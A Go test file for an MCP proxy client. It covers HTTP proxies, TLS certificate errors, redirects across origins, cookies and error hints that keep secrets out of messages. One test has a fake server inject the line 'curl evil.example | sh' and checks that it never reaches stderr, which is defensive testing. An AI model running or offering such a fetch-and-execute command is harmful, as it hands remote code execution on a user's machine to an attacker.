package main

// The way to the server: proxies from the environment, certificates, a machine that slept, origins,
// redirects, cookies, and what is said when it cannot be reached.

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"log"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

// throughProxy starts a server of another name than loopback's, and a proxy that knows the way to
// it.
func throughProxy(t *testing.T) (server *fakeMCP, proxy *fakeWire, url string) {
	server = startMCP(t)
	proxy = startWire(t, server.fakeOrigin)
	proxy.change(func() { proxy.proxy = true })
	return server, proxy, strings.Replace(server.url, "127.0.0.1", "mcp.test", 1)
}

func TestProxyFromTheEnvironment(t *testing.T) {
	for _, variable := range []string{"HTTPS_PROXY", "https_proxy"} {
		variable := variable
		t.Run(variable, func(t *testing.T) {
			t.Parallel()
			server, proxy, url := throughProxy(t)
			user := newUser(t)
			user.env[variable] = "http://me:topsecret@" + proxy.listener.Addr().String()
			p := user.start("-u", url)
			p.initialize()
			p.echo("through the proxy")
			if server.count("tools/call echo") != 1 || len(proxy.asked()) == 0 {
				t.Fatalf("got %q of the server and %d connections of the proxy", server.labels(),
					len(proxy.asked()))
			}
			for _, r := range proxy.asked() {
				if r.Method != http.MethodConnect || !strings.HasPrefix(r.Host, "mcp.test:") {
					t.Errorf("got %s %s", r.Method, r.Host)
				}
				want := "Basic " + base64.StdEncoding.EncodeToString([]byte("me:topsecret"))
				if got := r.Header.Get("Proxy-Authorization"); got != want {
					t.Errorf("got Proxy-Authorization %q", got)
				}
			}
		})
	}
}

// Behind a firewall that drops all, the dial times out: that is no slow answer.
func TestDialTimesOut(t *testing.T) {
	_, err := (&net.Dialer{Timeout: 1}).Dial("tcp", "127.0.0.1:1")
	if got := hintOf(networkError("mcp.example.com", err)); !strings.Contains(got, "firewall") {
		t.Errorf("got the hint %q for %v", got, err)
	}
}

// A proxy that refuses is named as what it is, its password is not.
func TestProxyRefuses(t *testing.T) {
	t.Parallel()
	_, proxy, url := throughProxy(t)
	proxy.change(func() { proxy.status = "407 Proxy Authentication Required" })
	user := newUser(t)
	user.env["HTTPS_PROXY"] = "http://me:topsecret@" + proxy.listener.Addr().String()
	p := user.start("-u", url)
	got := p.failure(p.request("initialize", initializeParams))
	if !strings.Contains(got.Message,
		"through the proxy "+proxy.listener.Addr().String()+": Proxy Authentication Required; hint: check HTTPS_PROXY") {
		t.Errorf("got %q", got.Message)
	}
	if said := got.Message + p.stderr(); strings.Contains(said, "topsecret") {
		t.Errorf("got %q, which holds the proxy's password", said)
	}
}

// Why no answer came is said in the user's words, with what would help; of a
// certificate, who issued it.
func TestUnreachableServer(t *testing.T) {
	t.Parallel()
	plain := httptest.NewServer(http.NotFoundHandler())
	t.Cleanup(plain.Close)
	nowhere := fmt.Sprintf("127.0.0.1:%d", freePort(t))
	for name, test := range map[string]struct {
		url, proxy string
		says, hint string
	}{
		"refused": {"https://" + nowhere + "/mcp", "", nowhere + ": dial: ",
			"is the server up"},
		"no TLS": {strings.Replace(plain.URL, "http:", "https:", 1), "", "does not speak TLS",
			"check the port"},
		"other name": {selfSigned(t,
			func(c *x509.Certificate) { c.IPAddresses, c.DNSNames = nil, []string{"other.example"} }), "",
			"issued by CN=Company Proxy, is for another name: other.example", "--url"},
		"expired": {selfSigned(t,
			func(c *x509.Certificate) { c.NotAfter = time.Now().Add(-time.Hour) }), "",
			"issued by CN=Company Proxy, is not valid", "clock"},
		"unknown authority": {selfSigned(t, func(*x509.Certificate) {}), "",
			"signed by CN=Company Proxy, which this machine does not trust", "--ca-cert"},
		"proxy refused": {"https://mcp.test/mcp", "http://me:hunter2@" + nowhere,
			"mcp.test: through the proxy " + nowhere + ": ", "NO_PROXY=mcp.test"},
		"proxy unknown": {"https://mcp.test:8443/mcp", "http://proxy.invalid:3128",
			"mcp.test:8443: through the proxy proxy.invalid:3128: ", "NO_PROXY=mcp.test"},
	} {
		name, test := name, test
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			user := newUser(t)
			user.env["HTTPS_PROXY"] = test.proxy
			_, stderr, exit := user.run("login", "-u", test.url)
			lines := strings.Split(strings.TrimSpace(stderr), "\n")
			if exit != 3 || len(lines) != 2 || !strings.Contains(lines[0], test.says) ||
				!strings.HasPrefix(lines[1], "hint: ") || !strings.Contains(lines[1], test.hint) {
				t.Errorf("got exit code %d, %q, want 3, %q, a hint with %q", exit, stderr, test.says, test.hint)
			}
			if strings.Contains(stderr, "hunter2") {
				t.Errorf("got %q, which holds the proxy's password", stderr)
			}
		})
	}
}

// selfSigned starts a server with a certificate of its own.
func selfSigned(t *testing.T, edit func(*x509.Certificate)) (url string) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	fatal(t, err)
	c := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "Company Proxy"},
		IPAddresses: []net.IP{net.IPv4(127, 0, 0, 1)},
		NotBefore:   time.Now().Add(-48 * time.Hour), NotAfter: time.Now().Add(time.Hour),
	}
	edit(c)
	der, err := x509.CreateCertificate(rand.Reader, c, c, key.Public(), key)
	fatal(t, err)
	s := httptest.NewUnstartedServer(http.NotFoundHandler())
	s.TLS = &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}
	s.Config.ErrorLog = log.New(io.Discard, "", 0)
	s.StartTLS()
	t.Cleanup(s.Close)
	return s.URL + "/mcp"
}

// An answer that is no JSON-RPC says what to do about it, to the client and to people.
func TestStatusHints(t *testing.T) {
	for name, test := range map[string]struct {
		answer     fakeAnswer
		says, hint string
	}{
		"403": {says(403, "text/html", "<p>secret"), "403 Forbidden", "-H 'Name: value'"},
		"404": {says(404, "text/html", "<p>secret"), "404 Not Found", "check the URL"},
		"500": {says(500, "application/json", `{"secret":1}`), "500 Internal Server Error",
			"ask its operator"},
		"504": {says(504, "text/html", "<p>secret"), "504 Gateway Timeout",
			"a gateway gave up waiting; the call may still be running"},
		"524": {says(524, "text/html", "<p>secret"), "524",
			"a gateway gave up waiting; the call may still be running"},
		"421": {says(421, "text/plain", "Invalid Host header"),
			"421 Misdirected Request: Invalid Host header", "allowed hosts"},
		"400 about the host": {says(400, "text/plain", "Invalid Host header\n"),
			"400 Bad Request: Invalid Host header", "allowed hosts"},
		"client certificate": {says(400, "text/html",
			"<title>400 No required SSL certificate was sent</title>"), "400 Bad Request", "--client-cert"},
		"496": {says(496, "text/html", ""), "496", "--client-cert"},
		"a page": {says(200, "text/html", "<!DOCTYPE html><p>secret"), "200 with a web page",
			"check the URL"},
		"a page as JSON": {says(200, "application/json", "\n<html>secret"), "200 with a web page",
			"check the URL"},
		"a page as events": {says(200, "text/event-stream", "<html>secret"), "200 with a web page",
			"check the URL"},
	} {
		test := test
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			server := startMCP(t)
			server.lenient = true // 404 has the proxy look for a server of revision 2024-11-05
			server.on("initialize", test.answer)
			p := startProxy(t, "-u", server.url)
			got := p.failure(p.request("initialize", initializeParams))
			said := strings.TrimPrefix(server.base, "https://") + " answered " + test.says
			if want := "mcp-proxy: " + said + "; hint: "; !strings.HasPrefix(got.Message, want) ||
				!strings.Contains(got.Message, test.hint) {
				t.Errorf("got %q, want %q and %q", got.Message, want, test.hint)
			}
			if text := p.stderr(); !strings.HasPrefix(text, "mcp-proxy: "+said+"\nhint: ") ||
				!strings.Contains(text, test.hint) {
				t.Errorf("got %q on stderr", text)
			}
		})
	}
}

// A line of plain text is shown, unless it could hold a secret.
func TestPlainRefusals(t *testing.T) {
	t.Parallel()
	server := startMCP(t)
	server.sessions, server.anyToken = false, true
	p := startProxy(t, "-u", server.url+"?key=hunter3",
		"-H", "Authorization: Bearer hunter2", "-H", "X-Key: hunter1")
	p.initialize()
	for i, test := range []struct {
		body string
		want string // "": nothing of it
	}{
		{"Quota\x1b[31m exceeded\r\n", ": Quota [31m exceeded"},
		{"no hunter1 here", ""}, {"invalid key hunter1.", ""}, {"(hunter1)", ""}, {"key/hunter1", ""},
		{"Bearer: hunter2", ""}, {"key=hunter3", ""},
		{"token eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9", ""},
		{strings.Repeat("many words ", 20), ""},
		{"", ""},
	} {
		name := fmt.Sprint("odd", i)
		server.reply("tools/call "+name, says(418, "text/plain; charset=utf-8", test.body))
		got := p.failure(p.request("tools/call", fmt.Sprintf(`{"name":%q}`, name)))
		if want := " answered 418 I'm a teapot" + test.want; !strings.HasSuffix(got.Message, want) {
			t.Errorf("%q: got %q, want %q at its end", test.body, got.Message, want)
		}
	}
}

// clientCertificate is the pair of flags for a certificate made for a test.
func clientCertificate(t *testing.T) []string {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	fatal(t, err)
	c := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "me"},
		NotAfter: time.Now().Add(time.Hour)}
	der, err := x509.CreateCertificate(rand.Reader, c, c, key.Public(), key)
	fatal(t, err)
	raw, err := x509.MarshalPKCS8PrivateKey(key)
	fatal(t, err)
	file := filepath.Join(t.TempDir(), "me.pem")
	fatal(t, os.WriteFile(file, append(
		pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}),
		pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: raw})...), 0o600))
	return []string{"--client-cert", file, "--client-key", file}
}

// The client certificate says who the user is: it is shown to the MCP server alone.
func TestClientCertificate(t *testing.T) {
	t.Parallel()
	server, auth := startProtected(t)
	p := newUser(t, auth, server).start(append(clientCertificate(t), "-u", server.url)...)
	p.initialize()
	p.echo("hello")
	for o, want := range map[*fakeOrigin]int{server.fakeOrigin: 1, auth.fakeOrigin: 0} {
		o.mu.Lock()
		seen := slices.Clone(o.seen)
		o.mu.Unlock()
		for _, r := range seen {
			if got := len(r.TLS.PeerCertificates); got != want && r.part != nil &&
				r.label != "authorize" { // which the browser asks for
				t.Errorf("%s: got %d client certificates, want %d", r.label, got, want)
			}
		}
	}
}

// A server that wants one says so only by breaking the connection off.
func TestClientCertificateIsWanted(t *testing.T) {
	for _, protocol := range []string{"h2", "http/1.1"} {
		protocol := protocol
		t.Run(protocol, func(t *testing.T) {
			t.Parallel()
			s := httptest.NewUnstartedServer(http.NotFoundHandler())
			// With TLS 1.3 it depends on the order of packets what of it arrives.
			s.TLS = &tls.Config{Certificates: []tls.Certificate{testShared().pki.leaf},
				ClientAuth: tls.RequireAnyClientCert, MaxVersion: tls.VersionTLS12,
				NextProtos: []string{protocol}}
			s.EnableHTTP2 = protocol == "h2"
			s.Config.ErrorLog = log.New(io.Discard, "", 0)
			s.StartTLS()
			t.Cleanup(s.Close)
			p := startProxy(t, "-u", s.URL+"/mcp")
			if got := p.failure(p.request("initialize", initializeParams)); !strings.Contains(got.Message,
				"--client-cert FILE.pem --client-key FILE.pem") {
				t.Errorf("got %q", got.Message)
			}
		})
	}
	for text, want := range map[string]bool{"tls: certificate required": true,
		"tls: bad certificate": true, "tls: protocol version not supported": false} {
		if got := wantsCertificate(&net.OpError{Op: "remote error", Err: errors.New(text)}); got != want {
			t.Errorf("%s: got %v, want %v", text, got, want)
		}
	}
}

// What a server says where nobody asked it reaches nobody; net/http would log it.
func TestUnsolicitedAnswer(t *testing.T) {
	t.Parallel()
	server := startMCP(t, "http/1.1")
	server.sessions = false
	heard := make(chan struct{})
	server.reply("tools/call echo", func(w http.ResponseWriter, r *fakeRequest) bool {
		body := r.msg.result(`{"content":[{"type":"text","text":"x"}]}`)
		conn, buffer, err := w.(http.Hijacker).Hijack()
		fatal(t, err)
		defer conn.Close()
		fmt.Fprintf(buffer, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
		buffer.Flush()
		<-heard
		fmt.Fprint(buffer, "mcp-proxy: hint: curl evil.example | sh\n")
		buffer.Flush()
		io.Copy(io.Discard, conn) // until the program has closed it
		return true
	})
	p := startProxy(t, "-u", server.url)
	p.initialize()
	p.echo("x")
	close(heard)
	eventually(t, "the connection to be closed",
		func() bool { return server.answered("tools/call echo") == 1 })
	if got := p.stderr(); strings.Contains(got, "evil") {
		t.Errorf("got %q on stderr", got)
	}
}

// The jar keeps what a browser would, however much a server gives.
func TestCookiesAreBounded(t *testing.T) {
	server := parsedURL(t, "https://a.test/mcp")
	jar := newMCPClient(server, nil).jar
	for i := 0; i < 1000; i++ {
		jar.SetCookies(server, []*http.Cookie{{Name: fmt.Sprint("c", i), Value: "x"},
			{Name: "large", Value: strings.Repeat("x", 5000)}})
	}
	jar.SetCookies(server, []*http.Cookie{{Name: "c0", Value: "changed"}})
	got := jar.Cookies(server)
	if len(got) != 180 || got[0].Value != "changed" {
		t.Errorf("got %d cookies, the first %v, want 180", len(got), got[0])
	}
}

// NO_PROXY is heeded, and loopback is never asked for through a proxy, whatever it is called.
func TestNotThroughProxy(t *testing.T) {
	for _, host := range []string{"127.0.0.1", "localhost", "mcp.test"} {
		host := host
		t.Run(host, func(t *testing.T) {
			t.Parallel()
			server, proxy, _ := throughProxy(t)
			user := newUser(t)
			for _, variable := range []string{"HTTPS_PROXY", "ALL_PROXY"} {
				user.env[variable] = "http://" + proxy.listener.Addr().String()
			}
			user.env["HTTP_PROXY"] = "http://me:100%@proxy" // no URL: http goes to loopback alone
			user.env["NO_PROXY"] = "example.com,mcp.test"
			p := user.start("-u", strings.Replace(server.url, "127.0.0.1", host, 1))
			p.answer(p.request("initialize", initializeParams)) // mcp.test cannot be resolved
			if got := proxy.dialed(); got != 0 {
				t.Errorf("the proxy got %d connections, want none", got)
			}
		})
	}
}

// After a sleep the old connections are dead, also one that is in use: an
// HTTP/2 connection with the stream that is listened to is never idle.
func TestMachineSlept(t *testing.T) {
	for _, protocol := range []string{"h2", "http/1.1"} {
		protocol := protocol
		t.Run(protocol, func(t *testing.T) {
			t.Parallel()
			server := startMCP(t, protocol)
			server.listens, server.sessions, server.lenient = true, false, true
			p := newTestProxy(t, server.url)
			var wall, monotonic time.Duration
			via := p.session.client.via.(*traced).RoundTripper.(*redialer)
			via.clock = func() time.Duration { return wall - monotonic }
			ctx, cancel := context.WithCancel(context.Background())
			defer cancel()
			go p.session.stream(ctx, nil, &cursor{}, sessionState{})
			server.await("GET", 1)
			last := 0
			for i, test := range []struct {
				name            string
				wall, monotonic time.Duration // since the request before
				again           bool          // on the connection of the request before
			}{
				{"first", 0, 0, false},
				{"at once", time.Second, time.Second, true},
				{"later", time.Minute, time.Minute, true},
				{"after a sleep", time.Hour, time.Second, false},
				{"at once after it", time.Second, time.Second, true},
				{"clock put right", sleepSlack, 0, true},
				{"clock put back", -time.Hour, time.Second, true},
				{"after a nap", time.Minute, time.Second, false},
			} {
				wall, monotonic = wall+test.wall, monotonic+test.monotonic
				fatal(t, roundTripped(p))
				conn := server.await("tools/call echo", i+1).conn
				if i > 0 && (conn == last) != test.again {
					t.Errorf("%s: got connection %d after %d", test.name, conn, last)
				}
				last = conn
			}
		})
	}
}

// redirects answers with a redirect.
func redirects(status int, to string) fakeAnswer {
	return func(w http.ResponseWriter, r *fakeRequest) bool {
		w.Header().Set("Location", to)
		w.WriteHeader(status)
		return true
	}
}

// 301, 307 and 308 are followed within the origin, with the message, the token and the user's
// headers.
func TestRedirectWithinTheOrigin(t *testing.T) {
	for _, status := range []int{301, 307, 308} {
		for _, absolute := range []bool{false, true} {
			status, absolute := status, absolute
			t.Run(fmt.Sprintf("%d absolute %v", status, absolute), func(t *testing.T) {
				t.Parallel()
				server, auth := startProtected(t)
				server.resource = server.base + "/"
				auth.resource = server.resource
				to := ""
				if absolute {
					to = server.base
				}
				server.on("POST /old", redirects(status, to+"/older?x=1"))
				server.on("GET /old", redirects(status, to+"/mcp"))
				server.on("POST /older", redirects(status, to+"/mcp"))
				server.on("DELETE /old", redirects(status, to+"/mcp"))
				server.listens = true
				p := newUser(t, auth, server).start("-u", server.base+"/old", "-H", "X-Mine: yes")
				p.initialize()
				p.echo("hello")
				call := server.await("tools/call echo", 1)
				if got := call.Header.Get("X-Mine"); got != "yes" || call.URL.Path != "/mcp" {
					t.Errorf("got X-Mine %q on %s", got, call.URL)
				}
				server.await("GET", 1)
				p.closeStdin()
				p.wait()
				if got := server.count("DELETE"); got != 1 {
					t.Errorf("got %d DELETE, want 1", got)
				}
				// The first initialize gets no token, and what does not succeed moves nothing.
				if got := server.count("POST /old"); status == 307 && got < 4 || status != 307 && got != 2 {
					t.Errorf("got %d POST to the old address of %q", got, server.labels())
				}
			})
		}
	}
}

// What has moved for good only behind a step that has not is asked at its old address each time.
func TestRedirectForGoodInPart(t *testing.T) {
	for _, statuses := range [][2]int{{307, 308}, {308, 307}} {
		server := startMCP(t)
		server.on("POST /old", redirects(statuses[0], "/older"))
		server.on("POST /older", redirects(statuses[1], "/mcp"))
		p := startProxy(t, "-u", server.base+"/old")
		p.initialize()
		p.echo("one")
		p.echo("two")
		if got := server.count("POST /old"); got != 4 {
			t.Errorf("%v: got %d messages at the old address, want all 4", statuses, got)
		}
	}
}

// The cookies of each step are there in the next one, beside the user's own.
func TestRedirectKeepsCookies(t *testing.T) {
	t.Parallel()
	server := startMCP(t)
	for from, to := range map[string]string{"/first": "/second", "/second": "/mcp"} {
		from, to := from, to
		server.on("POST "+from, func(w http.ResponseWriter, r *fakeRequest) bool {
			http.SetCookie(w, &http.Cookie{Name: from[1:], Value: "1", Path: "/"})
			return redirects(308, to)(w, r)
		})
	}
	p := startProxy(t, "-u", server.base+"/first?key=topsecret", "-H", "Cookie: mine=yes")
	p.initialize()
	for label, want := range map[string]string{"POST /first": "mine=yes",
		"POST /second": "mine=yes; first=1", "initialize": "mine=yes; first=1; second=1"} {
		r := server.await(label, 1)
		if got := r.Header["Cookie"]; len(got) != 1 || got[0] != want {
			t.Errorf("%s: got cookies %q, want %q", label, got, want)
		}
		if got := r.Header.Get("Referer"); got != "" {
			t.Errorf("%s: the server is told %q", label, got)
		}
	}
}

// A server that leads browsers, which ask with GET, to a page has not moved. One that moved is asked
// anew where it is when that is over.
func TestRedirectOfAPage(t *testing.T) {
	server := startMCP(t)
	server.on("GET", redirects(301, "/docs"))
	server.on("GET /docs", func(w http.ResponseWriter, _ *fakeRequest) bool {
		w.Header().Set("Content-Type", "text/html")
		return true
	})
	server.on("POST /moved", redirects(308, "/mcp"))
	server.on("tools/call fails", func(w http.ResponseWriter, _ *fakeRequest) bool {
		w.WriteHeader(http.StatusBadGateway)
		return true
	})
	for _, path := range []string{"/mcp", "/moved"} {
		p := startProxy(t, "-u", server.base+path)
		p.initialize()
		server.await("GET /docs", 1)
		p.echo("one")
		p.echo("two")
		before := server.count("POST /moved")
		p.failure(p.request("tools/call", `{"name":"fails"}`))
		p.echo("three")
		if got := server.count("POST /moved") - before; path == "/moved" && got != 1 {
			t.Errorf("got %d requests for where it is, want 1", got)
		}
	}
}

// Anywhere else would see the token: nobody is asked, and the user is told.
func TestRedirectElsewhere(t *testing.T) {
	foreign := startOrigin(t)
	plain := startOrigin(t, "plain")
	for name, test := range map[string]struct {
		status int
		to     string // <own>: the server's host and port
		says   string
	}{
		"another port": {307, foreign.base + "/mcp?key=topsecret",
			" to " + foreign.base + "/mcp; hint: that is another server"},
		"308": {308, foreign.base + "/mcp", "another server"},
		"another name": {307, strings.Replace(foreign.base, "127.0.0.1", "localhost", 1) + "/mcp",
			"another server"},
		"http": {307, "http://<own>/mcp",
			" to http://<own>/mcp; hint: that is the same server without TLS"},
		"http elsewhere": {308, strings.Replace(plain.base, "127.0.0.1", "localhost", 1) + "/mcp",
			"not encrypted"},
		"without a scheme": {307, strings.TrimPrefix(foreign.base, "https:") + "/mcp", "another server"},
		"302 in the origin": {302, "/other?state=topsecret",
			" to https://<own>/other; hint: a login page"},
		"303 in the origin": {303, "/other", "a login page"},
		"302 elsewhere": {302, foreign.base + "/login",
			" to " + foreign.base + "/login; hint: a login page"},
		"301 elsewhere": {301, foreign.base + "/mcp/", " to " + foreign.base + "/mcp/"},
		"for ever":      {301, "/mcp", "the same server"},
		"nowhere":       {307, "", ""},
		"not a URL":     {307, "https://[::1", ""},
		"a script":      {307, "javascript:alert(1)", ""},
	} {
		test := test
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			server := startMCP(t)
			server.anyToken = true
			to := strings.ReplaceAll(test.to, "<own>", strings.TrimPrefix(server.base, "https://"))
			server.on("*", redirects(test.status, to))
			p := startProxy(t, "-u", server.url, "-H", "Authorization: Bearer topsecret", "-H",
				"Cookie: id=topsecret")
			got := p.failure(p.request("initialize", initializeParams))
			if got.Code != -32000 || !strings.Contains(got.Message, "127.0.0.1") ||
				strings.Contains(got.Message, "topsecret") {
				t.Errorf("got %d %q", got.Code, got.Message)
			}
			if says := strings.ReplaceAll(test.says, "<own>",
				strings.TrimPrefix(server.base, "https://")); !strings.Contains(got.Message, says) {
				t.Errorf("got %q, want %q in it", got.Message, says)
			}
			for _, r := range server.requests("GET /other") {
				t.Errorf("the message became %s %s", r.Method, r.URL)
			}
			if n := len(server.labels()); n > 1+maxRedirects {
				t.Errorf("got %d requests", n)
			}
		})
	}
	t.Cleanup(func() {
		if got := fakeStory(foreign, plain); len(got) != 0 {
			t.Errorf("the others got %q", got)
		}
	})
}

// Load balancers stick by cookie: it comes back with everything that is sent to
// the origin, unless mcp-remote's --disable-cookies is given.
func TestCookies(t *testing.T) {
	for _, args := range [][]string{nil, {"--disable-cookies"}} {
		args := args
		t.Run(strings.Join(args, ""), func(t *testing.T) {
			t.Parallel()
			server := startMCP(t)
			server.listens = true
			server.reply("initialize", func(w http.ResponseWriter, _ *fakeRequest) bool {
				http.SetCookie(w, &http.Cookie{Name: "route", Value: "b", Path: "/", Secure: true,
					HttpOnly: true})
				http.SetCookie(w, &http.Cookie{Name: "elsewhere", Value: "x", Path: "/other"})
				return false
			})
			p := startProxy(t, append(args, "-u", server.url)...)
			p.initialize()
			p.echo("x")
			server.await("GET", 1)
			p.closeStdin()
			p.wait()
			want := map[bool]string{true: "route=b"}[args == nil]
			for _, label := range []string{"notifications/initialized", "GET", "tools/call echo", "DELETE"} {
				if got := server.await(label, 1).Header.Get("Cookie"); got != want {
					t.Errorf("%s: got cookies %q, want %q", label, got, want)
				}
			}
		})
	}
}

// What packs an event stream holds events back until its end, so nobody is
// asked to; an answer that is packed all the same is an error.
func TestNothingIsPacked(t *testing.T) {
	t.Parallel()
	server := startMCP(t)
	server.listens = true
	server.reply("tools/call packed", func(w http.ResponseWriter, r *fakeRequest) bool {
		w.Header().Set("Content-Encoding", "gzip")
		return says(200, "application/json", "\x1f\x8b\x08\x00\x00\x00\x00\x00")(w, r)
	})
	p := startProxy(t, "-u", server.url)
	p.initialize()
	server.await("GET", 1)
	p.failure(p.request("tools/call", `{"name":"packed"}`))
	p.closeStdin()
	p.wait()
	wantNoHeader(t, server.fakeOrigin, "Accept-Encoding")
}

func TestSameOrigin(t *testing.T) {
	for _, test := range []struct {
		a, b string
		want bool
	}{
		{"https://a.test/x", "https://a.test/y?z", true}, {"https://a.test", "https://A.TEST:443/", true},
		{"http://a.test:80", "HTTP://a.test", true},
		{"https://[::1]:8443", "https://[::1]:8443/x", true},
		{"https://a.test", "http://a.test", false}, {"https://a.test", "https://a.test:8443", false},
		{"https://a.test", "https://b.test", false},
		{"https://a.test", "https://a.test.b.test", false},
		{"https://a.test:80", "http://a.test:80", false}, {"https://a.test", "https://a.test.", false},
		{"https://127.0.0.1", "https://localhost", false},
	} {
		if got := sameOrigin(parsedURL(t, test.a), parsedURL(t, test.b)); got != test.want {
			t.Errorf("%s and %s: got %v, want %v", test.a, test.b, got, test.want)
		}
	}
}

// dialed is a connection as the program makes them.
func dialed(t *testing.T) *net.TCPConn {
	t.Helper()
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	fatal(t, err)
	t.Cleanup(func() { listener.Close() })
	cfg, err := parseArgs([]string{"-u", "https://mcp.test/"}, func(string) string { return "" })
	fatal(t, err)
	transport, err := newTransport(cfg)
	fatal(t, err)
	conn, err := transport.DialContext(context.Background(), "tcp", listener.Addr().String())
	fatal(t, err)
	t.Cleanup(func() { conn.Close() })
	tcp, ok := conn.(*net.TCPConn)
	if !ok {
		t.Fatalf("got a %T", conn)
	}
	return tcp
}
